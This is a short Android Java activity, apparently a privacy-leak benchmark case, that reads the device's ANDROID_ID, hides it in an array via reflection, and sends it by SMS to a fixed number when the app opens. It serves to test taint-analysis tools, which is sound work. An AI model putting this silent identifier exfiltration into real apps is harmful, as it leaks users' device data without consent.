package cn.privlens.suite.array_by_reflection;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import java.lang.reflect.Array;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Object cells = Array.newInstance(String.class, 2);
        Array.set(cells, 0, Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID));
        Array.set(cells, 1, "plain");
        SmsManager.getDefault().sendTextMessage("10690000", null, (String) Array.get(cells, 0), null, null);
    }
}
